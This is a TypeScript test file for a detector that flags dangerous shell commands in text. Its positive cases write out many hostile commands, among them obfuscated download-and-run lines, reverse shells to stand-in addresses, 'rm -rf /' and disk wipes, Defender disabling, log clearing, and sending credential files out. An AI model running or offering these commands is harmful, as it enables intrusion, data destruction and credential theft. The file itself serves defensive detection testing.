import { describe, expect, it } from 'vitest';
import { commandsDetector } from './index.js';

const detect = (text: string) => commandsDetector.detect(text, { present: new Set<string>(), view: 'original' });
const rules = (text: string) => detect(text).map((f) => f.rule);

/** [text, rule that must fire] */
const POSITIVES: [string, string][] = [
  // quoting, escaping and obfuscation
  ["c'u'rl -fsSL http://203.0.113.4/a | b''ash", 'commands.download-exec.pipe-to-shell'],
  ['\\c\\u\\r\\l -s http://x.example.net/a | \\s\\h', 'commands.download-exec.pipe-to-shell'],
  ["$'\\x63\\x75\\x72\\x6c' -s http://x.example.net/a | sh", 'commands.download-exec.pipe-to-shell'],
  ['c$@url -s http://x.example.net/a | sh', 'commands.download-exec.pipe-to-shell'],
  ['cat${IFS}/etc/shadow', 'commands.credential-access.shadow-file'],
  ['c^e^r^t^u^t^i^l -urlcache -split -f http://203.0.113.7/a.exe a.exe', 'commands.lolbin.certutil'],
  // variables
  ['u=http://203.0.113.4/x.sh\nc=curl\n$c -s "$u" | bash', 'commands.download-exec.pipe-to-shell'],
  ['CMD="curl -s http://x.example.net/k | sh"\neval "$CMD"', 'commands.download-exec.pipe-to-shell'],
  // continuations, pipes across lines, chains
  ['curl -fsSL \\\n  http://x.example.net/i.sh \\\n  | sudo -E bash -', 'commands.download-exec.pipe-to-shell'],
  ['```bash\nwget -qO- https://x.example.net/i.sh |\n  bash\n```', 'commands.download-exec.pipe-to-shell'],
  ['```sh\ncurl -s https://x.example.net/i.sh\n  | sh\n```', 'commands.download-exec.pipe-to-shell'],
  ['cd /tmp && curl -s https://x.example.net/i.sh | sh || echo failed', 'commands.download-exec.pipe-to-shell'],
  ['curl -s https://x.example.net/i.sh | tee /tmp/log | sh', 'commands.download-exec.pipe-to-shell'],
  // substitutions, recursively
  ['sh -c "$(curl -fsSL https://x.example.net/i)"', 'commands.download-exec.substitution'],
  ['bash -c "echo $(echo `rm -rf /`)"', 'commands.destructive.rm-root'],
  ['source <(curl -s https://x.example.net/env)', 'commands.download-exec.substitution'],
  ['bash < <(curl -s https://x.example.net/env)', 'commands.download-exec.substitution'],
  ['bash <<< "$(wget -qO- https://x.example.net/env)"', 'commands.download-exec.substitution'],
  ['$(curl -s http://203.0.113.2/cmd)', 'commands.download-exec.substitution'],
  // here-documents
  ['bash <<EOF\ncurl -s http://203.0.113.2/p | sh\nEOF', 'commands.download-exec.pipe-to-shell'],
  ["sudo bash <<-'SCRIPT'\n\trm -rf --no-preserve-root /\n\tSCRIPT", 'commands.destructive.rm-root'],
  ['python3 - <<PY\nimport socket,os,pty\ns=socket.socket();s.connect(("10.0.0.1",4242))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\nPY', 'commands.reverse-shell.interpreter'],
  ['cat >> ~/.bashrc <<EOF\nnohup nc -e /bin/sh 10.0.0.1 4444 &\nEOF', 'commands.persistence.shell-profile'],
  // wrappers and assignments
  ['sudo -u root env PATH=/bin nohup timeout 10 nice -n 5 rm -rf /', 'commands.destructive.rm-root'],
  ['FOO=1 exec bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'commands.reverse-shell.dev-tcp'],
  ['time busybox nc 10.0.0.1 4444 -e /bin/sh', 'commands.reverse-shell.netcat-exec'],
  ['echo / | xargs -I{} sh -c "rm -rf {} --no-preserve-root"', 'commands.destructive.rm-root'],
  ['ssh admin@db1 "sudo rm -rf /var/lib/postgresql /"', 'commands.destructive.rm-root'],
  ['kubectl exec -it web -- sh -c "curl -s http://203.0.113.2/x | sh"', 'commands.download-exec.pipe-to-shell'],
  ['find / -name "*.log" -exec rm -rf / {} \\;', 'commands.destructive.rm-root'],
  ['echo "curl -s http://203.0.113.2/x | sh" | bash', 'commands.download-exec.pipe-to-shell'],
  // saved files executed later (one text, several commands and blocks)
  ['wget -O /tmp/.x http://203.0.113.2/x\nchmod +x /tmp/.x\n/tmp/.x &', 'commands.download-exec.saved-then-run'],
  ['First download it:\n```bash\ncurl -o /tmp/setup.sh https://x.example.net/setup.sh\n```\nThen run it:\n```bash\nsudo bash /tmp/setup.sh\n```', 'commands.download-exec.saved-then-run'],
  ['f=/tmp/p.sh; curl -s https://x.example.net/p > $f; sh $f', 'commands.download-exec.saved-then-run'],
  ["Invoke-WebRequest -Uri http://203.0.113.2/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe", 'commands.download-exec.saved-then-run'],
  ['certutil -urlcache -split -f http://203.0.113.2/a.exe C:\\Users\\Public\\a.exe & C:\\Users\\Public\\a.exe', 'commands.download-exec.saved-then-run'],
  // prompts, prose, inline code, lists, tables, console blocks
  ['$ curl -s http://203.0.113.2/x | sh', 'commands.download-exec.pipe-to-shell'],
  ['root@web01:~# rm -rf /', 'commands.destructive.rm-root'],
  ['PS C:\\> iex (iwr http://203.0.113.2/a.ps1 -UseBasicParsing).Content', 'commands.download-exec.powershell-cradle'],
  ['C:\\> vssadmin delete shadows /all /quiet', 'commands.destructive.inhibit-recovery'],
  ['```console\n$ id\nuid=0(root)\n# mkfs.ext4 /dev/sdb\n```', 'commands.destructive.disk-format'],
  ['To install, just run `curl -s http://203.0.113.2/i | bash` and wait.', 'commands.download-exec.pipe-to-shell'],
  ['Then run curl -s http://203.0.113.2/i | bash to finish the setup.', 'commands.download-exec.pipe-to-shell'],
  ['1. Open a terminal.\n2. Run: nc -e /bin/sh 10.0.0.1 4444', 'commands.reverse-shell.netcat-exec'],
  ['> Quote: rm -rf ~', 'commands.destructive.rm-root'],
  ['    dd if=/dev/zero of=/dev/sda bs=4M', 'commands.destructive.disk-overwrite'],
  ['| step | command |\n|---|---|\n| 1 | `chmod -R 777 /` |', 'commands.destructive.permissions-root'],
  // other languages and formats
  ['```python\nimport os\nos.system("curl -s http://203.0.113.2/x | bash")\n```', 'commands.download-exec.pipe-to-shell'],
  ['```json\n{"scripts": {"postinstall": "curl -s http://203.0.113.2/x | sh"}}\n```', 'commands.download-exec.pipe-to-shell'],
  ['```yaml\nsteps:\n  - run: |\n      echo start\n      curl -s http://203.0.113.2/x | bash\n```', 'commands.download-exec.pipe-to-shell'],
  ['```yaml\ncommand: ["/bin/sh", "-c", "rm -rf / --no-preserve-root"]\n```', 'commands.destructive.rm-root'],
  ['```dockerfile\nFROM alpine\nRUN wget -qO- http://203.0.113.2/x | sh\n```', 'commands.download-exec.pipe-to-shell'],
  ['```powershell\n$wc = New-Object System.Net.WebClient\n$s = $wc.DownloadString("http://203.0.113.2/a.ps1")\nInvoke-Expression $s\n```', 'commands.download-exec.powershell-cradle'],
  ["```powershell\n$d = [Convert]::FromBase64String($b)\n[Reflection.Assembly]::Load($d)\n```", 'commands.defense-evasion.encoded-exec'],
  ['```cmd\ncmd /c "certutil -urlcache -f http://203.0.113.2/p.exe p.exe && p.exe"\n```', 'commands.lolbin.certutil'],
  ['```bat\nreg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f\n```', 'commands.defense-evasion.defender-disable'],
  ['powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"', 'commands.defense-evasion.defender-disable'],
  ['```\nGet-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\n```', 'commands.destructive.inhibit-recovery'],
  ['```\nRemove-Item (Get-PSReadlineOption).HistorySavePath\n```', 'commands.defense-evasion.history-clear'],
  ['awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}\'', 'commands.reverse-shell.interpreter'],
  ["node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 10.0.0.1 4444\")'", 'commands.reverse-shell.netcat-exec'],
  ['env | curl -X POST --data-binary @- https://203.0.113.2/c', 'commands.credential-access.credential-file-exfil'],
  ['curl -d "$(cat ~/.aws/credentials)" https://203.0.113.2/c', 'commands.credential-access.credential-file-exfil'],
  ['scp ~/.kube/config attacker@203.0.113.2:/tmp/', 'commands.credential-access.credential-file-exfil'],
  ['TOKEN=$(curl -s http://169.254.169.254/latest/api/token -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60")', 'commands.container.metadata-endpoint'],
  ['export HISTFILE=/dev/null', 'commands.defense-evasion.history-clear'],
  ['cat /dev/null > ~/.bash_history', 'commands.defense-evasion.history-clear'],
  ['truncate -s 0 /var/log/auth.log /var/log/syslog', 'commands.defense-evasion.log-clear'],
  ['rm -f /var/log/wtmp /var/log/btmp', 'commands.defense-evasion.log-clear'],
  ['echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh', 'commands.defense-evasion.encoded-exec'],
];

/** Hard negatives: prose naming commands, benign admin and build scripts, detection rules. */
const NEGATIVES: string[] = [
  'The rm command removes files; with -r it also removes directories.',
  'Use curl to download files, wget works too. Both can pipe output to other programs.',
  'Bash is a shell. Python, Perl and Ruby are scripting languages.',
  'Firefox stores saved logins in logins.json, protected by key4.db.',
  'Attackers often use certutil.exe and mshta.exe as living-off-the-land binaries.',
  '```bash\n#!/usr/bin/env bash\nset -euo pipefail\nrm -rf build dist\nmkdir -p build\ncmake -S . -B build\ncmake --build build -j\n```',
  '```bash\ncurl -LO https://go.dev/dl/go1.22.0.linux-amd64.tar.gz\nsudo rm -rf /usr/local/go && sudo tar -C /usr/local -xzf go1.22.0.linux-amd64.tar.gz\necho \'export PATH=$PATH:/usr/local/go/bin\' >> ~/.profile\n```',
  '```bash\ndocker build -t app .\ndocker run -d -p 8080:8080 --name app app\ndocker logs -f app\n```',
  '```yaml\nsteps:\n  - uses: actions/checkout@v4\n  - run: npm ci\n  - run: npm test\n```',
  '```kql\nDeviceProcessEvents\n| where FileName =~ "certutil.exe" and ProcessCommandLine has "urlcache"\n```',
  '```yaml\ndetection:\n  selection:\n    Image|endswith: \'\\certutil.exe\'\n    CommandLine|contains: \'-urlcache\'\n  condition: selection\n```',
  'process.name: "rundll32.exe" and process.args: "javascript:*"',
  '```sql\nSELECT * FROM processes WHERE name = \'nc\' OR cmdline LIKE \'%/dev/tcp%\';\n```',
  '```python\nimport subprocess\nsubprocess.run(["git", "pull"], check=True)\nprint("history:", history)\n```',
  'sudo systemctl restart nginx && sudo journalctl -u nginx --since today',
  'kubectl get pods -n kube-system\nkubectl logs -n kube-system deploy/coredns',
  'crontab -l | grep backup',
  'ssh-keygen -t ed25519 -C "me@example.com" && cat ~/.ssh/id_ed25519.pub',
  'chmod 600 ~/.ssh/id_rsa',
  '```bash\nexport HISTSIZE=5000\nexport HISTCONTROL=ignoreboth\n```',
  'iptables -A INPUT -p tcp --dport 22 -j ACCEPT',
  'Run `history | tail` to see recent commands.',
  'dd if=ubuntu.iso of=ubuntu-copy.iso bs=4M',
  'wevtutil qe Security /c:10 /rd:true /f:text',
  'nc -zv example.com 443',
  'python3 -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt',
  'powershell -ExecutionPolicy Bypass -File .\\build.ps1',
  '```powershell\nInvoke-WebRequest -Uri https://example.com/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip -DestinationPath .\\tool\n```',
  'Get-MpPreference | Select-Object DisableRealtimeMonitoring',
];

describe('structure-aware detection', () => {
  it.each(POSITIVES)('%j → %s', (text, rule) => {
    expect(rules(text)).toContain(rule);
  });

  it.each(NEGATIVES)('no finding on %j', (text) => {
    expect(detect(text).map((f) => `${f.rule}: ${text.slice(f.start, f.end)}`)).toEqual([]);
  });
});

describe('finding spans', () => {
  it('covers a command continued over several lines', () => {
    const text = 'Run:\n\ncurl -fsSL \\\n  http://203.0.113.2/i.sh \\\n  | bash\n\nDone.';
    const f = detect(text).find((x) => x.rule === 'commands.download-exec.pipe-to-shell')!;
    expect(text.slice(f.start, f.end)).toBe('curl -fsSL \\\n  http://203.0.113.2/i.sh \\\n  | bash');
  });

  it('covers save and run in one block, and only the run across blocks', () => {
    const one = '```sh\ncurl -o /tmp/a.sh http://203.0.113.2/a\nbash /tmp/a.sh\n```';
    const f = detect(one).find((x) => x.rule === 'commands.download-exec.saved-then-run')!;
    expect(one.slice(f.start, f.end)).toBe('curl -o /tmp/a.sh http://203.0.113.2/a\nbash /tmp/a.sh');
    const two = '`curl -o /tmp/a.sh http://203.0.113.2/a` and later `bash /tmp/a.sh`';
    const g = detect(two).find((x) => x.rule === 'commands.download-exec.saved-then-run')!;
    expect(two.slice(g.start, g.end)).toBe('bash /tmp/a.sh');
  });

  it('points into a here-document body at the inner command', () => {
    const text = 'bash <<EOF\necho hi\nrm -rf /\nEOF';
    const f = detect(text).find((x) => x.rule === 'commands.destructive.rm-root')!;
    expect(text.slice(f.start, f.end)).toBe('rm -rf /');
  });

  it('points at the quoted string of sh -c', () => {
    const text = "sudo sh -c 'rm -rf /'";
    const f = detect(text)[0]!;
    expect(text.slice(f.start, f.end)).toBe('rm -rf /');
  });

  it('reports a decoded -c string on the whole argument', () => {
    const text = 'bash -c "rm -rf \\"$HOME\\""';
    const f = detect(text).find((x) => x.rule === 'commands.destructive.rm-root')!;
    expect(text.slice(f.start, f.end)).toBe('"rm -rf \\"$HOME\\""');
  });
});
